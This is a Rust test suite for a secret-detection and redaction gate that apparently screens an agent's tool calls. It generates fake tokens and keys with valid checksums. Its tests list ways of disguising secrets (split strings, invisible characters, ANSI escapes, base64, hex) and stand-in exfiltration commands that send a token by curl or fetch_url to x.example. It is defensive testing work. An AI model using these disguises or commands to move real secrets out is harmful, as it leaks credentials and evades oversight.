//! Secrets by content: the rows of the corpus, a table of formats and one of look-alikes, disguises, streams.
//!
//! Values are made by the test, with right checksums, so that no valid one stands in the repository.

use gate::secret::{Level, Stream};
use gate::{Redacted, redact};
use ledger::gate::Severity;
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::world::{judge_everywhere, read};

mod formats;
mod lookalikes;

/// A source of digits that is the same in every run.
pub(crate) struct Dice(u64);

impl Dice {
    fn new(text: &str) -> Self {
        Self(text.bytes().fold(0xcbf2_9ce4_8422_2325, |sum, byte| {
            (sum ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
        }))
    }

    fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 >> 11).unwrap_or_default() % most
    }
}

const BASE62: &str = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/// Fills a pattern in: `{x36}` is thirty-six digits of a kind, and everything else itself. Kinds: `h` hexadecimal, `a`
/// letters and digits, `u` capitals and digits, `l` small letters and digits, `w` those of URLs, `b` base64, `2` base
/// 32, `9` decimal, `g` a body of GitHub's with its checksum.
pub(crate) fn made(pattern: &str) -> String {
    let mut dice = Dice::new(pattern);
    let mut out = String::new();
    let mut rest = pattern;
    while let Some((before, after)) = rest.split_once('{') {
        out.push_str(before);
        let slot = after.split_once('}').and_then(|(slot, tail)| {
            let (kind, count) = slot.split_at_checked(1)?;
            Some((kind, count.parse().ok()?, tail))
        });
        let Some((kind, count, tail)) = slot else {
            out.push('{');
            rest = after;
            continue;
        };
        out.push_str(&match kind {
            "g" => github(&mut dice),
            kind => digits(&mut dice, kind, count),
        });
        rest = tail;
    }
    out + rest
}

fn digits(dice: &mut Dice, kind: &str, count: usize) -> String {
    let set = match kind {
        "h" => "0123456789abcdef",
        "u" => "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ",
        "l" => "0123456789abcdefghijklmnopqrstuvwxyz",
        "2" => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567",
        "9" => "123456789",
        "w" => "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz-_",
        "b" => "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz+/",
        _ => BASE62,
    };
    let set: Vec<char> = set.chars().collect();
    (0..count).map(|_| set[dice.below(set.len())]).collect()
}

fn github(dice: &mut Dice) -> String {
    let body = digits(dice, "a", 30);
    let sum = body.bytes().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(byte), |sum, _| {
            (sum >> 1) ^ if sum & 1 == 1 { 0xedb8_8320 } else { 0 }
        })
    });
    let mut number = !sum;
    let mut tail = Vec::new();
    for _ in 0..6 {
        tail.push(BASE62.as_bytes()[usize::try_from(number % 62).expect("small")]);
        number /= 62;
    }
    tail.reverse();
    body + std::str::from_utf8(&tail).expect("ascii")
}

pub(crate) fn base64(text: &str) -> String {
    const SET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for piece in text.as_bytes().chunks(3) {
        let number = piece
            .iter()
            .fold(0_u32, |sum, byte| sum << 8 | u32::from(*byte))
            << (8 * (3 - piece.len()));
        for at in 0..4 {
            let digit = usize::try_from(number >> (18 - 6 * at) & 63).expect("small");
            out.push(if at <= piece.len() {
                char::from(SET[digit])
            } else {
                '='
            });
        }
    }
    out
}

/// The strictest thing that the policy says about a call, if anything.
fn said(tool: &str, args: Value) -> Option<Severity> {
    let line = serde_json::json!({ "tool": tool, "args": args }).to_string();
    let decisions = judge_everywhere(&read(&line));
    let ours = decisions
        .iter()
        .flat_map(|it| &it.findings)
        .filter(|it| it.policy == "secrets");
    ours.map(|it| it.severity).min_by_key(|it| match it {
        Severity::HardDeny => 0,
        Severity::SoftDeny => 1,
        Severity::EvidenceRequired => 2,
        Severity::Warning => 3,
    })
}

/// What it says about a write of a text.
fn written(text: &str) -> Option<Severity> {
    said("write_file", json!({ "path": "src/a.rs", "content": text }))
}

/// Whether a redacted text has lost all of the marked pieces, and nothing but what is in them.
fn masks(redacted: &Redacted, before: &str, spans: &[std::ops::Range<usize>]) -> bool {
    let mut rest = redacted.text.as_str();
    let mut at = 0;
    for span in spans {
        let kept = &before[at..span.start];
        let Some(place) = rest.find(kept) else {
            return false;
        };
        rest = &rest[place + kept.len()..];
        at = span.end;
    }
    rest.ends_with(&before[at..])
        && spans
            .iter()
            .all(|it| !redacted.text.contains(&before[it.clone()]))
}

fn row(row: &Value) -> Result<(), String> {
    let text = |key: &str| row[key].as_str().unwrap_or_default().to_owned();
    let parts = row["content_parts"].as_array().cloned().unwrap_or_default();
    let content: String = parts.iter().filter_map(Value::as_str).collect();
    if text("op") == "tool_output" {
        let redacted = redact(&content);
        let place = |chars: &Value| {
            let chars = usize::try_from(chars.as_u64().expect("a place")).expect("small");
            content
                .char_indices()
                .nth(chars)
                .map_or(content.len(), |(at, _)| at)
        };
        let spans = row["secret_spans"].as_array().cloned().unwrap_or_default();
        let spans: Vec<_> = spans
            .iter()
            .map(|it| place(&it[0])..place(&it[1]))
            .collect();
        let fits = if spans.is_empty() {
            redacted.text == content
        } else {
            masks(&redacted, &content, &spans)
        };
        return fits.then_some(()).ok_or(redacted.text);
    }
    let severity = match text("op").as_str() {
        "branch_name" => said("git", json!({ "argv": ["switch", "-c", content] })),
        "pr_body" => said("pull_request", json!({ "title": "a", "body": content })),
        "read_file" => said("read_file", json!({ "path": text("file") })),
        "commit_message" => said("commit", json!({ "message": content })),
        _ => said(
            "write_file",
            json!({ "path": text("file"), "content": content }),
        ),
    };
    let decision = match severity {
        Some(Severity::HardDeny) => "deny",
        Some(Severity::SoftDeny | Severity::EvidenceRequired) => "ask",
        Some(Severity::Warning) | None => "allow",
    };
    let expected = &row["expected"];
    let fits = expected == decision
        || expected
            .as_array()
            .is_some_and(|it| it.iter().any(|it| it == decision));
    fits.then_some(())
        .ok_or(format!("{decision}, not {expected}"))
}

#[test]
fn every_row_of_the_corpus_is_judged_as_it_says() {
    let rows = include_str!("../../../../corpus/security/secrets.jsonl");
    let mut wrong = Vec::new();
    for line in rows.lines() {
        let value: Value = serde_json::from_str(line).expect("a row");
        if let Err(said) = row(&value) {
            wrong.push(format!("{} {}: {said}", value["id"], value["why"]));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The parts between `«` and `»` of a pattern filled in, and the text without the marks.
fn marked(pattern: &str) -> (String, Vec<std::ops::Range<usize>>) {
    let full = made(pattern);
    let mut text = String::new();
    let mut spans = Vec::new();
    for (number, piece) in full.split(['«', '»']).enumerate() {
        let start = text.len();
        text.push_str(piece);
        if number % 2 == 1 {
            spans.push(start..text.len());
        }
    }
    (text, spans)
}

#[test]
fn every_format_is_found_and_only_its_value_masked() {
    let mut wrong = Vec::new();
    let table = formats::CERTAIN.iter().map(|it| (it, Severity::HardDeny));
    for (pattern, severity) in
        table.chain(formats::LIKELY.iter().map(|it| (it, Severity::SoftDeny)))
    {
        let (text, spans) = marked(pattern);
        let redacted = redact(&text);
        if !masks(&redacted, &text, &spans) {
            wrong.push(format!("{text}\n  became {}", redacted.text));
        }
        if redact(&redacted.text).text != redacted.text {
            wrong.push(format!(
                "{text}\n  changes twice: {}",
                redact(&redacted.text).text
            ));
        }
        if written(&text) != Some(severity) {
            wrong.push(format!("{text}\n  was said to be {:?}", written(&text)));
        }
    }
    assert!(formats::CERTAIN.len() + formats::LIKELY.len() >= 120);
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn what_only_looks_like_a_secret_passes() {
    let mut wrong = Vec::new();
    for pattern in lookalikes::TABLE {
        let text = made(pattern);
        let redacted = redact(&text);
        if redacted.text != text {
            wrong.push(format!("{text}\n  became {}", redacted.text));
        }
        if !matches!(written(&text), None | Some(Severity::Warning)) {
            wrong.push(format!("{text}\n  was said to be {:?}", written(&text)));
        }
    }
    assert!(lookalikes::TABLE.len() >= 80);
    assert!(
        wrong.is_empty(),
        "{} wrong:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn a_disguise_does_not_help() {
    let token = made("ghp_{g36}");
    let (head, tail) = token.split_at(17);
    let wide: String = token
        .chars()
        .map(|c| char::from_u32(u32::from(c) + 0xfee0).unwrap_or(c))
        .collect();
    let hidden: String = token.chars().flat_map(|c| [c, '\u{200b}']).collect();
    let hex: String = token.bytes().map(|byte| format!("{byte:02x}")).collect();
    let escaped: String = token.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let texts = [
        format!("a = \"{head}\" + \"{tail}\""),
        format!("a = '{head}' +\n    '{tail}'"),
        format!("a = (\"{head}\"\n     \"{tail}\")"),
        format!("a = \"{head}\" . \"{tail}\";"),
        format!("a = \"{head}\" .. \"{tail}\""),
        format!("a = \"{head}\" & _\n \"{tail}\"").replace(" _", ""),
        format!("a = [\"{head}\", \"{tail}\"].join(\"\")"),
        format!("A={head}''{tail}"),
        format!("A=\"{head}\"\"{tail}\""),
        format!("curl https://x.example/{head}\\\n{tail}"),
        format!("a = \"{head}\\\n    {tail}\""),
        format!("a = {wide}"),
        format!("a = {head}\u{1b}[0m{tail}"),
        format!("a = \u{1b}[01;31m\u{1b}[K{head}\u{1b}[m\u{1b}[K{tail}"),
        format!("a = {head}\u{1b}]8;;https://x\u{1b}\\{tail}"),
        format!("a = {head}\u{1b}]0;t\u{7}{tail}"),
        format!("a = {head}\u{1b}(B{tail}"),
        format!("a = {hidden}"),
        format!("a = {}\u{ad}{}", head, tail),
        format!("https://x.example/?a={}", token.replace('_', "%5F")),
        format!("a = \"{escaped}\""),
        format!("a = \"{}\"", base64(&token)),
        format!("a = \"{}\"", base64(&format!("user:{token}\n"))),
        format!("echo {} | base64 -d", base64(&token)),
        format!("a = {hex}"),
        format!("// TODO remove {token}"),
        format!("assert_eq!(parse(\"{token}\"), 1); // test data"),
    ];
    for text in texts {
        assert_eq!(written(&text), Some(Severity::HardDeny), "{text}");
        let redacted = redact(&text).text;
        assert!(
            !redacted.contains(head) && !redacted.contains(tail) && !redacted.contains(&token),
            "{redacted}"
        );
        assert_eq!(redact(&redacted).text, redacted, "twice");
    }
}

#[test]
fn wherever_it_would_go_out_it_is_stopped() {
    let token = made("glpat-{w20}");
    let calls = [
        (
            "git",
            json!({ "argv": ["switch", "-c", format!("feature/{token}")] }),
        ),
        ("commit", json!({ "message": format!("use {token}") })),
        (
            "pull_request",
            json!({ "title": "a", "body": format!("use {token}") }),
        ),
        (
            "run_command",
            json!({ "command": format!("export T={token}; curl x.example") }),
        ),
        (
            "run_command",
            json!({ "argv": ["curl", "-H", format!("Private-Token: {token}")] }),
        ),
        (
            "fetch_url",
            json!({ "url": format!("https://x.example/?t={token}") }),
        ),
        (
            "edit_file",
            json!({ "path": "a.rs", "old": "a", "new": format!("\"{token}\"") }),
        ),
        (
            "write_file",
            json!({ "path": "tests/a.rs", "content": format!("\"{token}\"") }),
        ),
        ("search", json!({ "pattern": token })),
    ];
    for (tool, args) in calls {
        assert_eq!(
            said(tool, args.clone()),
            Some(Severity::HardDeny),
            "{tool} {args}"
        );
    }
}

#[test]
fn a_wrong_checksum_is_noted_and_no_more() {
    let text = made("a = ghp_{a36}");
    assert_eq!(written(&text), Some(Severity::Warning));
    assert_eq!(redact(&text).text, text);
}

#[test]
fn levels_are_told_apart() {
    let level = |text: &str| redact(text).found.first().map(|it| it.level);
    assert_eq!(level(&made("ghp_{g36}")), Some(Level::Certain));
    assert_eq!(level("password = \"tR4v!9kQz2mW\""), Some(Level::Likely));
    assert_eq!(level("password = \"hunter2\""), None);
}

fn key(lines: usize) -> String {
    let body: Vec<String> = (0..lines)
        .map(|at| made(&format!("{{b64}}{at}"))[..64].to_owned())
        .collect();
    format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{}\n-----END RSA PRIVATE KEY-----\n",
        body.join("\n")
    )
}

#[test]
fn blocks_of_keys_are_masked_whole() {
    let block = key(25);
    let body = made("{b64}0");
    let escaped = block.replace('\n', "\\n");
    let indented = block
        .lines()
        .map(|line| format!("    {line}\n"))
        .collect::<String>();
    let cut = block.replace("-----END RSA PRIVATE KEY-----\n", "");
    let quoted = block
        .lines()
        .map(|line| format!("  \"{line}\\n\" +\n"))
        .collect::<String>();
    let putty = format!(
        "PuTTY-User-Key-File-3: ssh-rsa\nEncryption: none\nComment: a\nPublic-Lines: 1\n{}\nPrivate-Lines: 2\n{}\n{}\nPrivate-MAC: {}\n",
        made("{b64}p"),
        made("{b64}0"),
        made("{b64}q"),
        made("{h64}")
    );
    for text in [block.clone(), escaped, indented, cut.clone(), quoted, putty] {
        let redacted = redact(&text).text;
        assert!(
            redacted.contains("[secret:private-key:"),
            "{text}\n{redacted}"
        );
        assert!(!redacted.contains(&body[..64]), "{redacted}");
        assert_eq!(written(&text), Some(Severity::HardDeny), "{text}");
    }
    let tail: String = block
        .lines()
        .skip(3)
        .map(|line| format!("{line}\n"))
        .collect();
    assert!(
        redact(&tail).text.starts_with("[secret:private-key:"),
        "{}",
        redact(&tail).text
    );
    let many = format!("a\n{}b\n{}c\n", key(20), key(30));
    assert_eq!(redact(&many).found.len(), 2);
    assert!(redact(&cut).text.ends_with("]\n"), "{}", redact(&cut).text);
}

#[test]
fn long_text_is_gone_through_in_parts() {
    let mut text = String::new();
    let mut tokens = Vec::new();
    for at in 0..6 {
        text.push_str(&"let x = call(1, 2); // nothing here\n".repeat(600));
        text.push_str(&"a=b;".repeat(2_500));
        let token = made(&format!("npm_{{a36}}{at:02}"))[..40].to_owned();
        text.push_str(&format!("const T = '{token}';{}\n", key(50 + at)));
        tokens.push(token);
    }
    let redacted = redact(&text);
    assert_eq!(
        redacted.found.len(),
        12,
        "{:?}",
        redacted.found.iter().map(|it| it.kind).collect::<Vec<_>>()
    );
    assert!(tokens.iter().all(|it| !redacted.text.contains(it.as_str())));
    for size in [4_001, 81_920, 81_921] {
        assert_eq!(streamed(&text, size), redacted.text, "in pieces of {size}");
    }
}

fn streamed(text: &str, size: usize) -> String {
    let mut stream = Stream::default();
    let mut out = String::new();
    let mut at = 0;
    while at < text.len() {
        let end = text.ceil_char_boundary((at + size).min(text.len()));
        out.push_str(&stream.push(&text[at..end]));
        at = end;
    }
    out + &stream.finish()
}

fn fragments() -> impl Strategy<Value = String> {
    let parts: Vec<String> = vec![
        made("ghp_{g36}"),
        made("AKIA{216}"),
        made("xoxb-{910}-{911}-{a24}"),
        key(3),
        "-----BEGIN PRIVATE KEY-----".to_owned(),
        "-----END PRIVATE KEY-----".to_owned(),
        made("{b64}\n"),
        "password = \"".to_owned(),
        "tR4v!9kQz2mW".to_owned(),
        "\"".to_owned(),
        "\" + \"".to_owned(),
        "\n".to_owned(),
        " ".to_owned(),
        "[secret:password:0a1b2c3d]".to_owned(),
        "[secret:".to_owned(),
        "postgres://u:".to_owned(),
        "@h/".to_owned(),
        "Bearer ".to_owned(),
        made("{a32}"),
        "API_KEY".to_owned(),
        "é".to_owned(),
        "\u{200b}".to_owned(),
        "=".to_owned(),
        ":".to_owned(),
        "kind: Secret\ndata:\n  a: ".to_owned(),
        base64("tR4v!9kQz2mW"),
    ];
    prop::collection::vec(prop::sample::select(parts), 0..24).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn pieces_give_what_the_whole_gives(text in fragments(), fill in 0_usize..3, size in 1_usize..90_000) {
        let filler = "let x = call(1, 2);\n".repeat(fill * 2_000);
        let text = format!("{filler}{text}{filler}{text}");
        prop_assert_eq!(streamed(&text, size), redact(&text).text);
    }

    #[test]
    fn masking_is_stable(text in fragments()) {
        let once = redact(&text);
        let twice = redact(&once.text);
        prop_assert_eq!(&twice.text, &once.text);
    }
}

/// A line of the rules that can't be read finds nothing, and says nothing.
#[test]
fn every_line_of_the_rules_is_one() {
    let compiles = |shape: &str| {
        let regex = regex::bytes::RegexBuilder::new(shape)
            .unicode(false)
            .build();
        regex.is_ok()
    };
    let plain = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-';
    // What stands in a marker.
    let fits = |kind: &str| kind.len() <= 40 && kind.chars().all(plain);
    for line in include_str!("../../rules/own.rules").lines() {
        if line.starts_with('#') || line.is_empty() {
            continue;
        }
        let mut rest = line;
        let mut columns = Vec::new();
        for _ in 0..4 {
            let (column, behind) = rest.split_once(' ').unwrap_or_else(|| panic!("{line}"));
            columns.push(column);
            rest = behind.trim_start();
        }
        assert!(fits(columns[0]), "{line}");
        assert!(
            ["token", "context", "likely"].contains(&columns[1]),
            "{line}"
        );
        assert!(compiles(rest), "{line}");
    }
    for line in include_str!("../../rules/gitleaks.jsonl").lines() {
        let rule: serde_json::Value = serde_json::from_str(line).expect(line);
        assert!(fits(rule["id"].as_str().expect("a name")), "{line}");
        assert!(
            compiles(rule["regex"].as_str().expect("an expression")),
            "{line}"
        );
        for allow in rule["allow"].as_array().into_iter().flatten() {
            assert!(compiles(allow.as_str().expect("an expression")), "{line}");
        }
    }
}
